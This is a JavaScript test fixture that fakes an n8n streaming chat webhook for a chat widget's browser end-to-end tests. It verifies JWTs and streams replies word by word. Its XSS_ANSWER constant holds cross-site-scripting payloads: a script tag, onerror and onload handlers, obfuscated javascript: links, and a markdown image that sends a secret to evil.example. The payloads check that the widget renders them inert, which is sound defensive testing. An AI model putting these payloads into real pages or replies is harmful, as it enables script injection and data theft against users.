// A fake n8n Chat Trigger for the browser e2e tests. It answers exactly like n8n's streaming
// response mode (docs/n8n-protocol.md): status 200, Content-Type
// "application/json; charset=utf-8", chunked, one JSON object per line:
//   {"type":"begin"|"item"|"end","content"?,"metadata":{nodeId,nodeName,itemIndex,runIndex,timestamp}}\n
// It checks the proxy's HS256 JWT (like n8n's Webhook JWT auth) and counts requests per
// message text, so tests can prove a message reached the agent exactly once.
//
// The reply depends on the message:
//   contains "slow"  → SLOW_ANSWER, one word every 300 ms (time to cut the network mid-answer);
//   contains "xss"   → XSS_ANSWER (must render inert);
//   anything else    → "Echo: <message>. …", one word every 60 ms.
//
// Run alone: node e2e/fake-n8n.mjs [port] [secret]  (prints its port).

import { createHmac, timingSafeEqual } from 'node:crypto';
import { createServer } from 'node:http';
import { createServer as createTLSServer } from 'node:https';
import { pathToFileURL } from 'node:url';

export const SLOW_ANSWER =
  'This answer arrives slowly on purpose so the test can cut the network in the middle of it. ' +
  'When the connection comes back the widget resumes from the last event id and the text ends exactly once.';

export const XSS_ANSWER = [
  'Here is **your** answer <script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'; alert(1)">',
  '[click me](javascript:window.__pwned=\'link\';alert(1)) and [also](JaVaScRiPt:alert(2)) and [encoded](jav&#x61;script:alert(3))',
  '![secret](https://evil.example/collect?q=secret)',
  '<svg onload="alert(4)"><circle r="5"/></svg>',
  '[safe link](https://shop.example/help)',
].join('\n\n');

export function echoAnswer(message) {
  return `Echo: ${message}. Thanks for asking, this reply is streamed word by word.`;
}

/** Splits text into tokens that keep their spaces, so joining them gives the text back exactly. */
export function tokens(text) {
  return text.match(/\S+\s*|\s+/g) ?? [];
}

function verifyHS256(header, secret) {
  const token = /^Bearer (.+)$/.exec(header ?? '')?.[1];
  const parts = token?.split('.');
  if (!parts || parts.length !== 3) return false;
  const want = createHmac('sha256', Buffer.from(secret, 'utf8')).update(`${parts[0]}.${parts[1]}`).digest();
  const got = Buffer.from(parts[2], 'base64url');
  if (got.length !== want.length || !timingSafeEqual(got, want)) return false;
  try {
    const head = JSON.parse(Buffer.from(parts[0], 'base64url').toString());
    const claims = JSON.parse(Buffer.from(parts[1], 'base64url').toString());
    return head.alg === 'HS256' && typeof claims.exp === 'number' && claims.exp * 1000 > Date.now() - 5000;
  } catch {
    return false;
  }
}

function readBody(req) {
  return new Promise((resolve, reject) => {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    req.on('error', reject);
  });
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/**
 * Starts the fake on 127.0.0.1:port (0 = any free port), over https when tls ({key, cert})
 * is given (console sites accept https webhooks only).
 * Returns { port, url, counts: Map<text, n>, rejected: number, setSecret(s), close() }.
 */
export async function startFakeN8n({ port = 0, secret = '', tls = null } = {}) {
  const state = { counts: new Map(), rejected: 0 };
  const handler = async (req, res) => {
    if (req.method !== 'POST' || !req.url.startsWith('/webhook/')) {
      res.writeHead(404, { 'Content-Type': 'application/json' }).end('{"code":404,"message":"not registered"}');
      return;
    }
    if (secret && !verifyHS256(req.headers.authorization, secret)) {
      state.rejected++;
      res.writeHead(403, { 'Content-Type': 'text/plain' }).end('Authorization data is wrong!');
      return;
    }
    let body;
    try {
      body = JSON.parse(await readBody(req));
    } catch {
      res.writeHead(400).end();
      return;
    }
    const message = String(body.chatInput ?? body.message ?? '');
    state.counts.set(message, (state.counts.get(message) ?? 0) + 1);
    const slow = /slow/i.test(message);
    const answer = slow ? SLOW_ANSWER : /xss/i.test(message) ? XSS_ANSWER : echoAnswer(message);
    const delay = slow ? 300 : 60;

    res.writeHead(200, {
      'Content-Type': 'application/json; charset=utf-8',
      'Cache-Control': 'no-cache, no-transform',
      Connection: 'keep-alive',
    });
    res.flushHeaders();
    const metadata = () => ({
      nodeId: '6b49c0de-0000-4000-8000-000000000001',
      nodeName: 'AI Agent',
      itemIndex: 0,
      runIndex: 0,
      timestamp: Date.now(),
    });
    const write = (chunk) => !res.destroyed && res.write(`${JSON.stringify(chunk)}\n`);
    write({ type: 'begin', metadata: metadata() });
    for (const content of tokens(answer)) {
      await sleep(delay);
      if (res.destroyed) return;
      write({ type: 'item', content, metadata: metadata() });
    }
    write({ type: 'end', metadata: metadata() });
    res.end();
  };
  const server = tls ? createTLSServer(tls, handler) : createServer(handler);
  await new Promise((resolve) => server.listen(port, '127.0.0.1', resolve));
  const actual = server.address().port;
  return {
    port: actual,
    url: `${tls ? 'https' : 'http'}://127.0.0.1:${actual}/webhook/e2e/chat`,
    counts: state.counts,
    get rejected() {
      return state.rejected;
    },
    count: (text) => state.counts.get(text) ?? 0,
    /** From now on only tokens signed with s pass (a console site's secret is known after it is made). */
    setSecret: (s) => {
      secret = s;
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections?.();
        server.close(() => resolve());
      }),
  };
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const fake = await startFakeN8n({ port: Number(process.argv[2] ?? 0), secret: process.argv[3] ?? '' });
  console.log(`fake n8n listening on ${fake.url}`);
}
